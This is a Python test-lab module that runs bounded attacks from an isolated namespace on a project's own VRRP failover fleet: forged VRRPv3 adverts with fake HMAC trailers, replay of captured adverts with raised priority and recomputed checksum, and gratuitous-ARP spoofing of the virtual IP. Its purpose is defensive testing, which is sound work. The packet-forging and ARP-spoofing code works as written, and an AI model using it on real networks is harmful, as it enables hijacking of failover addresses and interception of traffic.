"""The attacker machine: a lab namespace on the same bridge as the fleet, without the token.

Run inside the attacker's namespace (``machine.spawn``) from the repository root:

    python -m tests.lab.attacker vrrp-forge --vip 198.18.0.100 --priorities 1-254 --duration 6
    python -m tests.lab.attacker vrrp-replay --capture 2 --duration 6
    python -m tests.lab.attacker arp-spoof --vip 198.18.0.100 --duration 6
    python -m tests.lab.attacker mdns-flood --count 10000          (tests/lab/attacker_mdns.py)
    python -m tests.lab.attacker api-idle --target 198.18.0.11:6480 (tests/lab/attacker_http.py)
    python -m tests.lab.attacker tls-server --vip 198.18.0.100     (tests/lab/attacker_tls.py)

Every attack is bounded in time and count, sends only on the lab interface (``eth0``, bound
with SO_BINDTODEVICE or an AF_PACKET socket on it), and prints one JSON line per notable event
and a ``done`` line with its counters. The lab's own addresses are 198.18.0.0/24; nothing here
ever touches the root namespace (the lab runs it inside a namespace).
"""

from __future__ import annotations

import argparse
import itertools
import json
import os
import random
import select
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from ipaddress import IPv4Address
from pathlib import Path
from typing import Any

from k3snoded.vrrp import packet

REPO = Path(__file__).resolve().parents[2]
PYTHON = str(REPO / ".venv" / "bin" / "python")
IFACE = "eth0"
MAX_DURATION = 120.0
MAX_RATE = 2000.0
_serial = itertools.count(1)


def emit(event: str, **fields: object) -> None:
    print(json.dumps({"event": event, "t": round(time.monotonic(), 6), **fields}), flush=True)


def own_address() -> IPv4Address:
    """eth0's IPv4 address (SIOCGIFADDR)."""
    import fcntl

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        req = struct.pack("256s", IFACE.encode())
        return IPv4Address(fcntl.ioctl(s.fileno(), 0x8915, req)[20:24])


def own_mac() -> bytes:
    with open(f"/sys/class/net/{IFACE}/address") as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def paced(rate: float, duration: float) -> Iterator[int]:
    """Yield 0, 1, 2, ... at ``rate`` per second for ``duration`` seconds (both bounded)."""
    rate = min(max(rate, 0.1), MAX_RATE)
    duration = min(duration, MAX_DURATION)
    start = time.monotonic()
    for i in range(int(rate * duration) + 1):
        due = start + i / rate
        delay = due - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        if time.monotonic() - start > duration:
            return
        yield i


def ipv4_header(source: IPv4Address, destination: IPv4Address, payload_len: int) -> bytes:
    """An IPv4 header for IP_HDRINCL: TTL 255, protocol 112 (the kernel fills the checksum)."""
    return struct.pack(
        "!BBHHHBBH4s4s",
        0x45,
        0xC0,
        20 + payload_len,
        0,
        0,
        packet.VRRP_TTL,
        packet.IPPROTO_VRRP,
        0,
        source.packed,
        destination.packed,
    )


def raw_vrrp_socket() -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, IFACE.encode())
    return s


def parse_priorities(text: str) -> list[int]:
    out: list[int] = []
    for part in text.split(","):
        low, _, high = part.partition("-")
        out.extend(range(int(low), int(high or low) + 1))
    if not out or not all(0 <= p <= 255 for p in out):
        raise SystemExit("priorities must be within 0..255")
    return out


def vrrp_forge(args: argparse.Namespace) -> dict[str, int]:
    """Forged VRRPv3 adverts for the fleet's VRID and VIP, cycling through the priorities.

    ``--trailer`` appends a 28-byte auth_hmac trailer with a fresh timestamp and a random MAC
    (what a stranger without the key can do at best).
    """
    source = IPv4Address(args.source) if args.source else own_address()
    group = packet.VRRP_MULTICAST_GROUP
    priorities = parse_priorities(args.priorities)
    sent = 0
    with raw_vrrp_socket() as s:
        for i in paced(args.rate, args.duration):
            prio = priorities[i % len(priorities)]
            advert = packet.Advertisement(
                args.vrid, prio, args.interval_cs, (IPv4Address(args.vip),)
            )
            message = packet.encode(advert, source, group)
            if args.trailer:
                now = time.time()
                prefix = struct.pack(
                    "!BBHIHH", 1, 1, 0, int(now), int((now % 1) * 65536), i & 0xFFFF
                )
                message += prefix + os.urandom(16)
            s.sendto(ipv4_header(source, group, len(message)) + message, (str(group), 0))
            sent += 1
    return {"sent": sent}


def capture_vrrp(seconds: float, limit: int = 1000) -> list[bytes]:
    """Whole IPv4 datagrams of VRRP adverts seen on the segment (multicast) for ``seconds``."""
    got: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, packet.IPPROTO_VRRP) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, IFACE.encode())
        mreq = struct.pack("4s4s", packet.VRRP_MULTICAST_GROUP.packed, own_address().packed)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
        end = time.monotonic() + min(seconds, MAX_DURATION)
        while len(got) < limit and (left := end - time.monotonic()) > 0:
            ready, _, _ = select.select([s], [], [], left)
            if ready:
                got.append(s.recv(2048))
    return got


def vrrp_replay(args: argparse.Namespace) -> dict[str, int]:
    """Capture the fleet's (authenticated) adverts, then send them again, as captured or with
    the priority raised (which breaks their HMAC), from the original source address."""
    captured = capture_vrrp(args.capture)
    emit("captured", adverts=len(captured))
    if not captured:
        return {"captured": 0, "sent": 0}
    sent = 0
    with raw_vrrp_socket() as s:
        for i in paced(args.rate, args.duration):
            datagram = bytearray(captured[i % len(captured)])
            header_len = (datagram[0] & 0x0F) * 4
            destination = IPv4Address(bytes(datagram[16:20]))
            if args.raise_priority:  # and a valid checksum again, so only the HMAC can tell
                source = IPv4Address(bytes(datagram[12:16]))
                vrrp = datagram[header_len:]
                size = 8 + 4 * vrrp[3]
                vrrp[2], vrrp[6], vrrp[7] = 254, 0, 0
                pseudo = source.packed + destination.packed + struct.pack("!BBH", 0, 112, size)
                vrrp[6:8] = struct.pack("!H", packet.checksum(pseudo + bytes(vrrp[:size])))
                datagram[header_len:] = vrrp
            s.sendto(bytes(datagram), (str(destination), 0))
            sent += 1
    return {"captured": len(captured), "sent": sent}


def arp_spoof(args: argparse.Namespace) -> dict[str, int]:
    """Claim the VIP for our MAC: gratuitous ARP requests and unsolicited replies, paced."""
    mac = own_mac()
    vip = IPv4Address(args.vip)
    ether = b"\xff" * 6 + mac + struct.pack("!H", 0x0806)
    request = ether + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + vip.packed
    request += b"\0" * 6 + vip.packed
    reply = ether + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + vip.packed
    reply += b"\xff" * 6 + vip.packed
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as s:
        s.bind((IFACE, 0x0806))
        for _ in paced(args.rate, args.duration):
            s.send(request)
            s.send(reply)
            sent += 2
    return {"sent": sent}


class Attack:
    """Host side: one attack running in the attacker machine; its JSON lines go to a file."""

    def __init__(self, machine: Any, command: str, *args: str) -> None:
        base = machine.lab.workdir
        self.out = base / f"attack-{command}-{next(_serial)}.jsonl"
        self.machine = machine
        with self.out.open("wb") as out:
            self.proc = machine.spawn(
                [PYTHON, "-m", "tests.lab.attacker", command, *args],
                stdout=out,
                stderr=subprocess.STDOUT,
                cwd=REPO,
            )

    def events(self, kind: str | None = None) -> list[dict[str, Any]]:
        found = []
        for line in self.out.read_text(errors="replace").splitlines():
            if line.startswith("{"):
                event = json.loads(line)
                if kind is None or event["event"] == kind:
                    found.append(event)
        return found

    def wait(self, timeout: float = 60.0) -> dict[str, Any]:
        """Wait for the attack to end; its ``done`` counters (AssertionError if it failed)."""
        rc = self.proc.wait(timeout)
        done = self.events("done")
        if rc != 0 or not done:
            raise AssertionError(f"attack failed (rc {rc}): {self.out.read_text()[-2000:]}")
        return done[-1]

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.machine.kill(self.proc, signal.SIGTERM)
            self.proc.wait(10)


COMMANDS: dict[str, Callable[[argparse.Namespace], dict[str, int]]] = {
    "vrrp-forge": vrrp_forge,
    "vrrp-replay": vrrp_replay,
    "arp-spoof": arp_spoof,
}


def _parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="python -m tests.lab.attacker")
    sub = p.add_subparsers(dest="command", required=True)
    f = sub.add_parser("vrrp-forge")
    f.add_argument("--vip", required=True)
    f.add_argument("--vrid", type=int, default=51)
    f.add_argument("--priorities", default="254", help="e.g. 254, 1-254, 0,100,254")
    f.add_argument("--source", help="spoofed source address (default: our own)")
    f.add_argument("--interval-cs", type=int, default=10)
    f.add_argument("--trailer", action="store_true", help="append a forged auth_hmac trailer")
    f.add_argument("--rate", type=float, default=10.0)
    f.add_argument("--duration", type=float, default=6.0)
    r = sub.add_parser("vrrp-replay")
    r.add_argument("--capture", type=float, default=2.0, help="seconds of listening first")
    r.add_argument("--raise-priority", action="store_true")
    r.add_argument("--rate", type=float, default=50.0)
    r.add_argument("--duration", type=float, default=6.0)
    a = sub.add_parser("arp-spoof")
    a.add_argument("--vip", required=True)
    a.add_argument("--rate", type=float, default=5.0)
    a.add_argument("--duration", type=float, default=6.0)
    from tests.lab import attacker_http, attacker_mdns, attacker_tls

    attacker_mdns.add_commands(sub, COMMANDS)
    attacker_http.add_commands(sub, COMMANDS)
    attacker_tls.add_commands(sub, COMMANDS)
    return p


def main(argv: list[str] | None = None) -> int:
    args = _parser().parse_args(argv)
    # SIGTERM (Attack.stop, lab teardown) unwinds like an exception, so every attack's cleanup
    # (an address it added, a socket) runs.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    random.seed()
    emit("start", command=args.command)
    counters = COMMANDS[args.command](args)
    emit("done", command=args.command, **counters)
    return 0


if __name__ == "__main__":
    sys.exit(main())
